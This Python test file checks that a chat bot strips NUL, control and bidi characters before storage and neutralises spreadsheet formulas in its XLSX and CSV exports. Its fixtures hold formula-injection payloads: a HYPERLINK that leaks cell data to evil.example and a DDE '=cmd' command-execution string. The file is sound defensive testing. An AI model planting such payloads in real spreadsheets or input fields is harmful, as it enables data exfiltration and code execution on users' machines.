"""Hostile text at the storage edge and in exports: NUL, control and bidi characters, formulas.

Runs on SQLite and PostgreSQL (a NUL in a statement is a DataError there without cleaning)."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from bot.export import export
from bot.sanitize import clean_json, clean_line, clean_text
from tests.fakes.chat import ChatDriver

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")\x00\x07\u202e'
EVIL_FULL_NAME = '=HYPERLINK("http://evil.example/?x="&A1)\x00'  # no comma: "full name, position"


def test_clean_text_and_line() -> None:
    assert clean_text("a\x00b\x1bc\r\nd\te\u202ef\ud800") == "abc\nd\tef"
    assert clean_line("Nguyễn\nVăn\x00A\x9f") == "NguyễnVănA"
    assert clean_json({"k\x00": ["x\x01", {"y": "z\u2066"}], "n": 1}) == {"k": ["x", {"y": "z"}], "n": 1}


async def test_nul_and_controls_never_reach_the_database(chat: ChatDriver, app: Any) -> None:
    await chat.send("evil", "/start", name=EVIL_NAME)
    user = app.store.get_user("console:evil")
    assert user is not None and "\x00" not in user.display_name and "\x07" not in user.display_name
    assert "\u202e" not in user.display_name
    await chat.send("evil", "Kinh phí\x00 lấy từ đâu?\x1b[31m")
    (q,) = app.store.questions()
    assert "\x00" not in q.question and "\x1b" not in q.question and "lấy từ đâu" in q.question


async def test_exports_hold_no_formula_from_user_input(chat: ChatDriver, app: Any) -> None:
    # Exports name the submitter by the full name given at registration: make it a formula.
    await chat.register("lan", "Sở Y tế", profile=EVIL_FULL_NAME + ", chuyên viên")
    await chat.report(
        "lan", ["2024", "2", "=cmd|' /C calc'!A0", "+1+1 kết quả\x00", "-2-3", "@SUM(A1)", None, None]
    )
    await chat.send("lan", "/trogiup", name=EVIL_NAME)  # the chat handle, as Telegram gives it
    xlsx = load_workbook(io.BytesIO(export(app, 2024, "xlsx")))
    ws = xlsx.active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
    assert all(c.data_type != "f" for c in cells)  # text, never a formula
    rows = list(csv.reader(io.StringIO(export(app, 2024, "csv").decode("utf-8-sig"))))
    values = [v for r in rows for v in r]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    assert any(v.startswith("'=HYPERLINK") for v in values) and any(v.startswith("'=cmd") for v in values)
